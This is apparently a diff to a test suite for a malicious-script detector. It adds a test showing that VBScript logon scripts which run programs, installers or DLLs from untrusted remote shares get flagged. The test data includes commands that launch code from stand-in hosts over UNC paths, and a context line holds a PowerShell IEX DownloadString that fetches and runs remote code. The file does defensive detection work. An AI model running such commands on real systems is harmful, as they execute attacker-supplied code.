@@ -297,6 +297,35 @@ suite('an encoded script', () => {
   })
 })
 
+test('a logon script may start programs of its domain, and connect drives and printers', () => {
+  const run = (...commands: string[]): Uint8Array =>
+    packed(
+      'logon.vbs',
+      ['Set s = CreateObject("WScript.Shell")', ...commands.map((each) => `s.Run "${each}", 0`)].join('\n'),
+    )
+  harmless(run('%LOGONSERVER%\\netlogon\\bginfo.exe \\\\dc01\\netlogon\\a.bgi /silent'))
+  harmless(run('rundll32 printui.dll,PrintUIEntry /in /n \\\\print01\\Floor2'))
+  // An attacker can choose these names.
+  for (const command of [
+    '\\\\example.com\\netlogon\\bginfo.exe /silent',
+    'wscript \\\\example.com\\sysvol\\example.com\\scripts\\a.vbs',
+    'net use H: \\\\fs01.example.com\\home /persistent:no',
+  ])
+    assert.deepEqual(accusations(run(command)), ['Script.Start'], command)
+  for (const commands of [
+    ['\\\\203.0.113.5\\netlogon\\bginfo.exe'],
+    ['\\\\example.com\\tools\\bginfo.exe'],
+    ['msiexec /q /i \\\\example.com\\netlogon\\a.msi'],
+    ['rundll32 printui.dll,PrintUIEntry /in /n \\\\203.0.113.5\\a'],
+    ['rundll32 \\\\dc01\\netlogon\\a.dll,Start'],
+    ['net use H: \\\\example.com\\a', 'H:\\a.exe'],
+  ])
+    assert.ok(
+      accusations(run(...commands)).some((id) => /Program|Dropper/.test(id)),
+      commands.join(),
+    )
+})
+
 test('a script without a name is recognised by its first statement', () => {
   const run = `$b = [Convert]::FromBase64String($a)\nIEX ($w.DownloadString('http://example.com/a'))\n`
   const texts = ['$a = 1', '[Ref].Assembly', 'Write-Output 1', 'param($x)']
